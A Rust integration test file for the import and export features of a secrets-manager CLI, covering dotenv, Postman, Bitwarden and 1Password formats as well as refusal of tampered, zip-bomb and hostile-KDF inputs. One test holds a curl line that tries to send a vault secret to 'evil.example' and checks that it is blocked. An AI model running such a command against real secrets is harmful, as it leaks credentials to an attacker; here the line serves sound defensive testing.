//! `coffer import` from other tools and `coffer export --format` back (issue 11): dotenv files
//! read as dotenvy and a shell read them, Postman and Bitwarden exports (the password-protected
//! ones made in the test by an independent Python implementation of Bitwarden's published
//! crypto), round trips, `--from`, folders, and the plan's renames and skipped items.
#![allow(clippy::unwrap_used)] // test code: a failed unwrap is a failed test

mod common;
#[path = "common/moto.rs"]
mod moto;

use common::{TestVault, fails_with, import_plan, mode, plan_names as names, stderr, value};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

const BW_PASSWORD: &str = "correct horse battery staple";

fn vectors(path: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/vectors/foreign")
        .join(path)
        .display()
        .to_string()
}

fn dry_run_json(v: &TestVault, args: &[&str]) -> Value {
    import_plan(v, args, None)
}

/// `list --json` as (name, disabled, allowed domains).
fn listing(v: &TestVault) -> Vec<(String, bool, Vec<String>)> {
    let out = v.cmd(&["list", "--json"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
    let rows = list
        .get("secrets")
        .and_then(Value::as_array)
        .or_else(|| list.as_array())
        .unwrap()
        .clone();
    rows.iter()
        .map(|s| {
            (
                s["name"].as_str().unwrap().to_string(),
                s["disabled"].as_bool().unwrap_or(false) || s["enabled"] == Value::Bool(false),
                s["allowedDomains"]
                    .as_array()
                    .map(|a| a.iter().map(|d| d.as_str().unwrap().to_string()).collect())
                    .unwrap_or_default(),
            )
        })
        .collect()
}

#[test]
fn a_dotenv_file_gives_what_dotenvy_and_a_shell_give() {
    let file = vectors("dotenv/sample.env");
    let keys = [
        "DATABASE_URL",
        "STRIPE_KEY",
        "QUOTED",
        "SINGLE",
        "BASE",
        "URL",
        "MULTI",
        "ESCAPED",
    ];
    // dotenvy, with none of these names in this process's environment (it would prefer them).
    for k in keys {
        assert!(
            std::env::var_os(k).is_none(),
            "{k} is set in the test's environment"
        );
    }
    let dotenvy: Vec<(String, String)> = dotenvy::from_path_iter(&file)
        .unwrap()
        .map(Result::unwrap)
        .filter(|(k, _)| keys.contains(&k.as_str()))
        .collect();
    // A POSIX shell: `set -a; . file`, each value printed NUL-terminated.
    let script = format!(
        "set -a; . \"$1\"; for k in {}; do eval \"printf '%s\\0' \\\"\\${{$k}}\\\"\"; done",
        keys.join(" ")
    );
    let out = Command::new("sh")
        .args(["-c", &script, "sh", &file])
        .env_clear()
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let shell: Vec<(String, String)> = keys
        .iter()
        .map(|k| k.to_string())
        .zip(
            String::from_utf8(out.stdout)
                .unwrap()
                .split_terminator('\0')
                .map(String::from),
        )
        .collect();
    assert_eq!(dotenvy, shell, "dotenvy and the shell agree on the fixture");

    let v = TestVault::init();
    let out = v.cmd(&["import", &file]).output().unwrap();
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("read as a dotenv file"), "{err}");
    assert!(err.contains("line 11 (EMPTY): its value is empty"), "{err}");
    for (k, want) in &shell {
        assert_eq!(&value(&v, k), want, "{k}");
    }
}

#[test]
fn dotenv_and_postman_exports_round_trip() {
    let v = TestVault::init();
    v.set("API_KEY", "sk 'quoted' \"double\" $HOME \\ end");
    v.set("multi.line", "one\ntwo\n  three");
    v.set("PLAIN", "p");
    v.set("OFF", "off-value");
    v.cmd(&["disable", "OFF"]).assert().success();
    v.cmd(&[
        "link",
        "linked",
        "--provider",
        "one-password",
        "--reference",
        "op://v/i/f",
    ])
    .assert()
    .success();

    let env_file = v.dir.path().join("out.env");
    let out = v
        .cmd(&[
            "export",
            "--format",
            "dotenv",
            "--yes",
            "-o",
            env_file.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert_eq!(mode(&env_file), 0o600);
    assert!(
        err.contains("Exported 3 secrets (dotenv, plaintext)"),
        "{err}"
    );
    assert!(
        err.contains("OFF: disabled") && err.contains("linked: linked to"),
        "{err}"
    );

    let pm_file = v.dir.path().join("out.postman_environment.json");
    let out = v
        .cmd(&[
            "export",
            "--format",
            "postman-env",
            "--yes",
            "-o",
            pm_file.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(mode(&pm_file), 0o600);

    // Back into the same vault: every secret the file holds is identical.
    for (file, count) in [(&env_file, 3), (&pm_file, 4)] {
        let plan = dry_run_json(&v, &[file.to_str().unwrap()]);
        assert_eq!(plan["counts"]["identical"], count, "{plan}");
        assert_eq!(plan["counts"]["new"], 0, "{plan}");
        assert_eq!(plan["counts"]["duplicate"], 0, "{plan}");
    }

    // Into a new vault: the same values (and, from Postman, the disabled state).
    for file in [&env_file, &pm_file] {
        let w = TestVault::init();
        w.cmd(&["import", file.to_str().unwrap()])
            .assert()
            .success();
        for n in ["API_KEY", "multi.line", "PLAIN"] {
            assert_eq!(value(&w, n), value(&v, n), "{n} from {}", file.display());
        }
    }
    let w = TestVault::init();
    w.cmd(&["import", pm_file.to_str().unwrap()])
        .assert()
        .success();
    let off = listing(&w)
        .into_iter()
        .find(|(n, _, _)| n == "OFF")
        .unwrap();
    assert!(off.1, "OFF stays disabled");
}

#[test]
fn postman_variables_secret_type_only_by_default() {
    let v = TestVault::init();
    let file = vectors("postman/environment.json");
    let plan = dry_run_json(&v, &[&file]);
    assert_eq!(names(&plan), ["stripe-key", "legacy_token", "retries"]);
    assert_eq!(plan["items"][0]["renamedFrom"], "stripe key");
    assert_eq!(plan["files"][0]["format"], "postman");
    let skipped: Vec<&str> = plan["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["origin"].as_str().unwrap())
        .collect();
    assert_eq!(
        skipped,
        [
            "variable 1 (baseUrl)",
            "variable 4 (auth)",
            "variable 5 (session)",
            "variable 7 (timeout)"
        ]
    );
    let plan = dry_run_json(&v, &["--only-secret-type=false", &file]);
    assert_eq!(
        names(&plan),
        [
            "baseUrl",
            "stripe-key",
            "legacy_token",
            "retries",
            "timeout"
        ]
    );
    // A reference is never imported, whatever the type switch says.
    assert_eq!(plan["skipped"][0]["origin"], "variable 4 (auth)");

    v.cmd(&["import", &file]).assert().success();
    assert_eq!(value(&v, "stripe-key"), "sk_live_postman_1");
    let rows = listing(&v);
    assert!(rows.iter().any(|(n, off, _)| n == "legacy_token" && *off));
    // A collection's variables too.
    let plan = dry_run_json(&v, &[&vectors("postman/collection.json")]);
    assert_eq!(names(&plan), ["webhook_secret"]);
}

/// Writes a password-protected Bitwarden export of the plain fixture with the Python script.
fn python_bitwarden(dir: &Path, kdf: &str, password: &str) -> PathBuf {
    let out_file = dir.join(format!("bw-{}.json", kdf.replace(':', "-")));
    let out = Command::new(moto::python())
        .arg(vectors("bitwarden/make_protected.py"))
        .arg(vectors("bitwarden/plain.json"))
        .arg(&out_file)
        .arg(kdf)
        .env("BW_EXPORT_PASSWORD", password)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    out_file
}

#[test]
fn bitwarden_password_protected_exports_made_by_python_import() {
    let v = TestVault::init();
    // A fresh random password and salt every run (the script draws the salt).
    let password = format!(
        "pw-{}",
        coffer_core::hex::encode(&coffer_core::crypto::random::bytes::<12>())
    );
    for kdf in ["pbkdf2:5000", "argon2id:2:16:1"] {
        let file = python_bitwarden(v.dir.path(), kdf, &password);
        let f = file.to_str().unwrap();
        let plan = import_plan(&v, &[f], Some(&password));
        assert_eq!(
            names(&plan),
            [
                "Stripe-live",
                "Stripe-live.webhook-secret",
                "Stripe-live-2",
                "n_code-_-login"
            ],
            "{kdf}"
        );
        // Same error, same exit code for a wrong password and for a changed file.
        let wrong = fails_with(
            v.cmd(&["import", f])
                .env("COFFER_IMPORT_PASSWORD", "not the password at all"),
            7,
        );
        let mut doc: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
        let data = doc["data"].as_str().unwrap().to_string();
        let (head, mac) = data.rsplit_once('|').unwrap();
        let flipped = if mac.starts_with('A') { "B" } else { "A" };
        doc["data"] = Value::String(format!("{head}|{flipped}{}", &mac[1..]));
        std::fs::write(&file, serde_json::to_vec(&doc).unwrap()).unwrap();
        let tampered = fails_with(
            v.cmd(&["import", f])
                .env("COFFER_IMPORT_PASSWORD", &password),
            7,
        );
        assert_eq!(wrong, tampered, "{kdf}");
        assert!(
            wrong.contains("wrong password, or the file was changed"),
            "{wrong}"
        );
        assert!(!wrong.contains(&password));
    }
    let file = python_bitwarden(v.dir.path(), "pbkdf2:5000", &password);
    let out = v
        .cmd(&["import", file.to_str().unwrap()])
        .env("COFFER_IMPORT_PASSWORD", &password)
        .output()
        .unwrap();
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("\"Stripe live\" becomes Stripe-live"), "{err}");
    assert!(err.contains("item 4 (\"Company card\"): a card"), "{err}");
    assert_eq!(value(&v, "Stripe-live"), "sk_live_fixture_1");
    assert_eq!(value(&v, "n_code-_-login"), "pässwörd ✓");
    let rows = listing(&v);
    let stripe = rows.iter().find(|(n, _, _)| n == "Stripe-live").unwrap();
    assert_eq!(stripe.2, ["api.stripe.com", "dashboard.stripe.com"]);
    // The allowed domains hold: the password does not go to another host.
    let code = v
        .cmd(&["inject"])
        .write_stdin("curl -H 'k: {{vault:Stripe-live}}' https://evil.example/\n")
        .output()
        .unwrap()
        .status
        .code();
    assert_ne!(code, Some(0));
}

#[test]
fn bitwarden_negatives_are_refused_before_any_work() {
    let v = TestVault::init();
    let err = fails_with(
        v.cmd(&["import", &vectors("bitwarden/negative-hostile-kdf.json")])
            .env("COFFER_IMPORT_PASSWORD", BW_PASSWORD),
        4,
    );
    assert!(
        err.contains("kdfMemory 1048576 is outside 16..=1024"),
        "{err}"
    );
    let err = fails_with(
        &mut v.cmd(&[
            "import",
            &vectors("bitwarden/negative-account-restricted.json"),
        ]),
        12,
    );
    assert!(err.contains("account restricted"), "{err}");
    assert!(err.contains("Password protected"), "{err}");
    // No password and no terminal: said, nothing imported.
    let err = fails_with(
        &mut v.cmd(&["import", &vectors("bitwarden/protected-pbkdf2.json")]),
        4,
    );
    assert!(
        err.contains("is encrypted and no password was given"),
        "{err}"
    );
    assert!(listing(&v).is_empty());
}

#[test]
fn from_forces_a_reader_and_folders_take_dotenv_files() {
    let v = TestVault::init();
    let dir = v.dir.path().join("drop");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join(".env"), "A=1\n").unwrap();
    std::fs::write(dir.join(".env.example"), "A=placeholder\n").unwrap();
    std::fs::write(
        dir.join("b.json"),
        std::fs::read(vectors("postman/globals.json")).unwrap(),
    )
    .unwrap();
    std::fs::write(dir.join("notes.txt"), "not read").unwrap();
    let plan = dry_run_json(&v, &[dir.to_str().unwrap()]);
    assert_eq!(names(&plan), ["A", "GLOBAL_SECRET"], "{plan}");
    assert_eq!(plan["files"].as_array().unwrap().len(), 2);

    // A file the content does not give away: named by --from.
    let odd = v.dir.path().join("vars.txt");
    std::fs::write(&odd, "# only a comment first\n\n  KEY_1 = 'v'\n").unwrap();
    let plan = dry_run_json(&v, &["--from", "dotenv", odd.to_str().unwrap()]);
    assert_eq!(names(&plan), ["KEY_1"]);
    let unknown = v.dir.path().join("unknown.json");
    std::fs::write(&unknown, "{\"hello\": 1}").unwrap();
    let err = fails_with(&mut v.cmd(&["import", unknown.to_str().unwrap()]), 4);
    assert!(err.contains("--from"), "{err}");
    // The wrong reader forced: an error, never a guess.
    let err = fails_with(
        &mut v.cmd(&[
            "import",
            "--from",
            "bitwarden",
            &vectors("postman/globals.json"),
        ]),
        4,
    );
    assert!(err.contains("(Bitwarden export)"), "{err}");
}

#[test]
fn secure_notes_only_when_asked() {
    let v = TestVault::init();
    let file = vectors("bitwarden/plain.json");
    let plan = dry_run_json(&v, &[&file]);
    assert!(!names(&plan).contains(&"DB-recovery-key".to_string()));
    let plan = dry_run_json(&v, &["--include-notes", &file]);
    assert!(names(&plan).contains(&"DB-recovery-key".to_string()));
    v.cmd(&["import", "--include-notes", &file])
        .assert()
        .success();
    assert_eq!(value(&v, "DB-recovery-key"), "line one\nline two");
}

#[test]
fn onepassword_1pux_and_csv() {
    let v = TestVault::init();
    let pux = vectors("onepassword/export.1pux");
    let plan = dry_run_json(&v, &[&pux]);
    assert_eq!(plan["files"][0]["format"], "1pux");
    assert_eq!(
        names(&plan),
        [
            "GitHub",
            "GitHub.API-token",
            "DB-root",
            "Stripe.credential",
            "Old-login"
        ]
    );
    assert_eq!(
        plan["items"][4]["notes"][0],
        "archived in 1Password: imported disabled"
    );
    let plan = dry_run_json(&v, &["--include-notes", &pux]);
    assert!(names(&plan).contains(&"Recovery-codes".to_string()));
    v.cmd(&["import", &pux]).assert().success();
    assert_eq!(value(&v, "Stripe.credential"), "sk_live_1pux");
    assert!(
        listing(&v)
            .iter()
            .any(|(n, off, _)| n == "Old-login" && *off)
    );

    // The CSV export: recognised from its header.
    let w = TestVault::init();
    let plan = dry_run_json(&w, &[&vectors("onepassword/1password.csv")]);
    assert_eq!(plan["files"][0]["format"], "1password-csv");
    assert_eq!(names(&plan), ["GitHub", "Stripe-API", "Old-login"]);
    w.cmd(&["import", &vectors("onepassword/1password.csv")])
        .assert()
        .success();
    assert_eq!(value(&w, "Stripe-API"), "sk_live_csv,with \"quotes\"");
}

#[test]
fn hostile_archives_are_refused_with_nothing_imported() {
    let v = TestVault::init();
    for (f, want) in [
        (
            "onepassword/negative-zip-bomb.1pux",
            "larger than 134217728 bytes",
        ),
        (
            "onepassword/negative-zip-bomb-lying-size.1pux",
            "not a readable ZIP archive",
        ),
        (
            "onepassword/negative-truncated.1pux",
            "not a readable ZIP archive",
        ),
    ] {
        let err = fails_with(&mut v.cmd(&["import", &vectors(f)]), 4);
        assert!(err.contains(want), "{f}: {err}");
    }
    assert!(listing(&v).is_empty());
}

#[test]
fn a_broken_encrypted_string_says_the_same_whatever_the_password() {
    // Checked whole before any key is derived: a right and a wrong password cannot be told
    // apart by what a damaged file answers.
    let v = TestVault::init();
    let mut doc: Value =
        serde_json::from_slice(&std::fs::read(vectors("bitwarden/protected-pbkdf2.json")).unwrap())
            .unwrap();
    for broken in ["2.!!!|AAAA|AAAA", "3.AAAA|AAAA|AAAA"] {
        doc["data"] = Value::String(broken.into());
        let file = v.dir.path().join("broken.json");
        std::fs::write(&file, serde_json::to_vec(&doc).unwrap()).unwrap();
        let f = file.to_str().unwrap();
        let out = |pw: &str| {
            let o = v
                .cmd(&["import", f])
                .env("COFFER_IMPORT_PASSWORD", pw)
                .output()
                .unwrap();
            (o.status.code(), stderr(&o))
        };
        let right = out(BW_PASSWORD);
        assert_ne!(right.0, Some(0), "{broken}");
        assert_eq!(right, out("not the password"), "{broken}");
    }
}
